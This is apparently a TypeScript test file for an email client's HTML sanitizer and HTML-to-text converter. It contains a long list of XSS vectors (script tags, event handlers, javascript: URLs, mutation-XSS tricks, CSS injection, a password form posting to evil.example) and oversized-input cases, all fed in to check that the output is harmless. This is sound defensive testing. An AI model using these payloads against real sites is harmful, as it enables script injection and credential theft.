/** HTML made safe: hostile vectors, random mixtures of them, and ordinary mail that must stay readable. */
import * as fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { MIME } from '../../src/limits.ts';
import { textFromHtml } from '../../src/mime/html-text.ts';
import { safeHtml } from '../../src/mime/safe-html.ts';

/** Elements that may come out; written down here again, so that a slip in the sanitizer's own list is seen. */
const ALLOWED = new Set(
  (
    'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em ' +
    'figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section ' +
    'small span strike strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'title dir lang align valign width height bgcolor style href target rel data-cid alt border hspace vspace color face size ' +
    'cellpadding cellspacing colspan rowspan nowrap scope span start type value noshade'
  ).split(' '),
);

function elements(html: string): [string, Record<string, string>][] {
  const found: [string, Record<string, string>][] = [];
  const parser = new Parser({ onopentag: (name, attributes) => found.push([name, attributes]) });
  parser.end(html);
  return found;
}

/** What must hold of everything that comes out, whatever went in. */
function expectHarmless(html: string): void {
  for (const [name, attributes] of elements(html)) {
    expect(ALLOWED).toContain(name);
    for (const [attribute, value] of Object.entries(attributes)) {
      if (name === 'img' && attribute === 'src') {
        expect(value).toMatch(/^data:image\/(png|gif|jpe?g|webp);base64,[A-Za-z0-9+/=]*$/);
        continue;
      }
      expect(ATTRIBUTES).toContain(attribute);
      if (attribute === 'href') {
        const { protocol } = new URL(value);
        expect(['http:', 'https:', 'mailto:']).toContain(protocol);
        expect(attributes).toMatchObject({ target: '_blank', rel: 'noopener noreferrer nofollow' });
      }
      if (attribute === 'style') expect(value).not.toMatch(/url|expression|import|position|[\\@{}"'<>]|\/\*/i);
    }
  }
  expect(html).not.toMatch(/<(?!\/?[a-z])/);
}

/** `data-cid` is never taken from the sender. */
const withoutCid = (html: string): string => html.replace(/ data-cid="[^"]*"/g, '');

const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x00>alert(1)</script>',
  '<script/x>alert(1)</script\n>',
  '<script>alert(1)',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror = "alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/png;base64,AAAA" onload=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img src="cid:a&quot; onerror=&quot;alert(1)">',
  '<img data-cid="x" src="cid:y">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/v1/accounts">x</a>',
  '<a href="#top">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_self" rel="opener" id="x" class="y" name="z" ping="https://evil.example">x</a>',
  '<a href="http://<!-- -->javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="#safe;javascript:alert(1)"></svg>',
  '<svg><use href="data:image/svg+xml,..."></svg>',
  '<svg></p><style><a title="</style><img src onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea/><img src=x onerror=alert(1)>',
  '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/x.css"; * { background: url(//evil.example) }</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background:u\\72l(https://evil.example)">x</div>',
  '<div style="background:/**/url(https://evil.example)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="-moz-binding:url(x);behavior:url(x);position:fixed;top:0;left:0;z-index:9;color:red">x</div>',
  '<div style="margin-left:-500px;background-image:url(https://evil.example)">x</div>',
  '<div style="color:red&quot; onmouseover=&quot;alert(1)">x</div>',
  '<div style=\'font-family:"</div><img src=x onerror=alert(1)>"\'>x</div>',
  '<body onload=alert(1) background="https://evil.example/x.png">x</body>',
  '<table background="https://evil.example/x.png"><tr><td background="x">x</td></tr></table>',
  '<input type=image src="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button>',
  '<form action="https://evil.example"><input name=password type=password></form>',
  '<select><option><script>alert(1)</script></option></select>',
  '<video src="https://evil.example" poster="https://evil.example"><source src="https://evil.example"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action="javascript:alert(1)">',
  '<picture><source srcset="https://evil.example/x.png 1x"><img src=x></picture>',
  '<img srcset="https://evil.example/x.png 1x, https://evil.example/y.png 2x">',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p title="a&quot;><script>alert(1)</script>">x</p>',
  '<p title="</p><script>alert(1)</script>">x</p>',
  '<font color="red" onclick=alert(1) style="x:expression(alert(1))">x</font>',
  '<div id="app" class="admin" name="form" contenteditable tabindex=0 accesskey=x>x</div>',
  '<a href="https://x.example"><a href="javascript:alert(1)">x</a></a>',
  '<__proto__ x=1><constructor y=1>x',
  '<div __proto__="x" constructor="y" hasOwnProperty="z">x</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>',
  '<a\x0chref="javascript:alert(1)">x</a>',
  '<a href="https://ok.example" style="display:block;position:absolute">x</a>',
];

describe('hostile HTML', () => {
  it.each(VECTORS)('%j comes out harmless, and the same when it is sanitized again', (vector) => {
    const { html } = safeHtml(vector);
    expectHarmless(html);
    expect(safeHtml(html).html).toBe(withoutCid(html));
    expectHarmless(safeHtml(`<table><tr><td>${vector}</td></tr></table>`).html);
    expectHarmless(safeHtml(vector.slice(0, Math.floor(vector.length * 0.7))).html);
  });

  it('comes out harmless however its pieces are mixed', () => {
    const pieces = fc.constantFrom(
      ...VECTORS.flatMap((vector) => vector.split(/(?=[<>"'= ])/)).filter((piece) => piece !== ''),
      '</', '/>', '"', "'", '<!--', '-->', '<svg>', '</svg>', '<math>', '<style>', '</style>', '<title>', '<noscript>', '<p>', '</p>', '\0', '&quot;', '<table>',
    ); // prettier-ignore
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (list) => {
        const { html } = safeHtml(list.join(''));
        expectHarmless(html);
        // Nesting that no parser keeps (a block in a paragraph) may be straightened by the second pass; harmless it stays.
        expectHarmless(safeHtml(html).html);
      }),
      { numRuns: 500 },
    );
  });
});

describe('ordinary HTML', () => {
  it.each([
    ['<p>Hello <b>Bob</b> &amp; &lt;all&gt;</p>', '<p>Hello <b>Bob</b> &amp; &lt;all&gt;</p>'],
    ['<html><head><title>x</title></head><body>text</body></html>', 'text'],
    [
      '<a href="https://ok.example/?a=1&amp;b=2">x</a>',
      '<a href="https://ok.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    ],
    ['<a href="MAILTO:ann@example.org">x</a>', '<a href="MAILTO:ann@example.org" target="_blank" rel="noopener noreferrer nofollow">x</a>'],
    ['<a href="ftp://x.example">x</a>', '<a>x</a>'],
    ['<img src="cid:logo@x" alt="Logo" width="10">', '<img width="10" alt="Logo" data-cid="logo@x" />'],
    ['<img src="CID:a%40b">', '<img data-cid="a@b" />'],
    ['<img src="cid:%zz">', '<img data-cid="%zz" />'],
    ['<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA" />'],
    [
      '<table border="1" cellpadding="2"><tr><td colspan="2" bgcolor="#fff">x</td></tr></table>',
      '<table border="1" cellpadding="2"><tr><td bgcolor="#fff" colspan="2">x</td></tr></table>',
    ],
    [
      '<p style="COLOR: #f00; font-family: &quot;Segoe UI&quot;, Arial; margin: 0 auto; background: rgb(1, 2, 3) !important; position: fixed">x</p>',
      '<p style="color:#f00;font-family:Segoe UI, Arial;margin:0 auto;background:rgb(1, 2, 3) !important">x</p>',
    ],
    ['<p style="position:fixed">x</p>', '<p>x</p>'],
    ['<p>one<p>two', '<p>one</p><p>two</p>'],
    ['<center><font color="red" size="2">x</font></center>', '<center><font color="red" size="2">x</font></center>'],
    ['', ''],
  ])('%j becomes %j', (input, expected) => expect(safeHtml(input)).toEqual({ html: expected, blocked: 0, unsafe: false }));
});

describe('what would be loaded', () => {
  it.each([
    ['<img src="https://t.example/p.gif"><img src="http://t.example/q.gif"><img src="//t.example/r.gif">', 3],
    ['<img src="cid:x"><img src="data:image/png;base64,AA"><img src="image001.png"><a href="https://x.example">x</a>', 0],
    ['<img srcset="https://t.example/p.gif 2x" src="cid:x">', 1],
    ['<body background="https://t.example/p.gif"><td background="https://t.example/q.gif">', 2],
    ['<p style="background:url(https://t.example/p.gif)">x</p>', 1],
    ['<style>p{background:url(https://t.example/a)} @import "//t.example/b"; q{background:url( \'https://t.example/c\')}</style>', 3],
    ['<link rel=stylesheet href="https://t.example/x.css"><script src="https://t.example/x.js"></script>', 2],
    ['<svg><image href="https://t.example/x"/><image xlink:href="https://t.example/y"/></svg>', 2],
    ['<video poster="https://t.example/x"><source src="https://t.example/y"></video><iframe src="https://t.example/z"></iframe>', 3],
    ['<img src="ht\ntps://t.example/x"><img src="\\\\t.example\\x">', 2],
  ])('of %j is counted: %i', (input, blocked) => {
    const result = safeHtml(input);
    expect(result.blocked).toBe(blocked);
    expect(result.html).not.toContain('t.example');
  });

  it('is only pictures over https, where they are allowed', () => {
    const { html, blocked } = safeHtml(
      '<img src="https://t.example/p.gif" srcset="https://t.example/r.gif 2x"><img src="http://t.example/q.gif"><p style="background:url(https://t.example/s)">',
      'allowed',
    );
    expect(html).toBe('<img src="https://t.example/p.gif" /><img /><p></p>');
    expect(blocked).toBe(3);
  });
});

describe('HTML that the sanitizer must not be given', () => {
  it.each(['<div>', '<b>', '<table><tr><td>', '<svg>', '<x>', '<pre>', '<ul><li>'])('nests %s too deep and becomes text', (tag) => {
    const { html, unsafe } = safeHtml(`${tag.repeat(10_000)}a &lt;b&gt; "c"`);
    expect(unsafe).toBe(true);
    expect(/<(?!br \/>)/.test(html)).toBe(false);
    expect(html.slice(-32)).toContain('a &lt;b&gt; &quot;c&quot;');
  });

  it('is sanitized up to the limit', () => {
    const nested = (depth: number): string => '<div>'.repeat(depth) + 'x' + '</div>'.repeat(depth);
    expect(safeHtml(nested(MIME.htmlDepth)).unsafe).toBe(false);
    expect(safeHtml(nested(MIME.htmlDepth + 1)).unsafe).toBe(true);
  });

  it('is never longer than the body may be', () => {
    const { html } = safeHtml('x'.repeat(MIME.bodyOctets + 1000));
    expect(html).toHaveLength(MIME.bodyOctets);
  });

  it.each([
    '<',
    '<a',
    '<a ',
    '</p>',
    '<p>',
    '<!--',
    '<style>',
    '<style',
    '&',
    '<a href="<!---->',
    '<a x=1 ',
    '<img src=http://x>',
    'a\t',
    '<form>',
    '<option>',
  ])('of nothing but %j ends', (piece) => {
    const result = safeHtml(piece.repeat(Math.floor(MIME.bodyOctets / piece.length)));
    expectHarmless(result.html.slice(0, 10_000).replace(/<[^>]*$/, ''));
  });

  it.each([
    `<pre>${' '.repeat(250_000)}x</pre>`,
    `<p style="background:url(${' '.repeat(250_000)}">x</p>`,
    `<style>p{background:url(${' '.repeat(250_000)}`,
    `<a href="http://${'<!-- -->'.repeat(30_000)}">x</a>`,
    `<a ${Array.from({ length: 30_000 }, (_, n) => `x${n}=1`).join(' ')}>x</a>`,
  ])('of one long piece ends', (html) => expectHarmless(safeHtml(html).html));
});

describe('the text of HTML', () => {
  it.each([
    ['<p>one</p><p>two</p>', 'one\n\ntwo'],
    ['one<br>two<br/><br>three', 'one\ntwo\n\nthree'],
    ['<div>one</div><div>two</div>three', 'one\ntwo\nthree'],
    ['  <p>  white\n\t space&nbsp;&nbsp; </p>  ', 'white space'],
    ['<ul><li>a</li><li><p>b</p></li></ul>after', '- a\n- b\n\nafter'],
    ['<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a b\nc'],
    ['see <a href="https://x.example">the <b>page</b></a>.', 'see the page.'],
    ['<pre>a\n  b</pre>', 'a\n  b'],
    ['<title>t</title><style>p{}</style><script>x</script><p>text</p>', 'text'],
    ['a<hr>b', 'a\n---\nb'],
    ['&lt;b&gt; &amp; &#8364; &euro; &unknown;', '<b> & € € &unknown;'],
    ['<h1>Title</h1>text', 'Title\n\ntext'],
    ['a<!-- comment -->b<![CDATA[c]]>', 'ab'],
    ['<p>open <b', 'open'],
    ['', ''],
  ])('%j is %j', (html, expected) => expect(textFromHtml(html)).toBe(expected));

  it('never fails, and ends however deep it is', () => {
    expect(textFromHtml(`${'<div>'.repeat(50_000)}x`)).toBe('x');
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('<', '>', 'p', '</', '<br>', '&', '&amp;', ' ', '\n', '"', '<script>', '<pre>', '<li>', 'x'), {
          maxLength: 60,
        }),
        (list) => {
          expect(textFromHtml(list.join(''))).not.toMatch(/^\s|\s$/);
        },
      ),
    );
  });
});
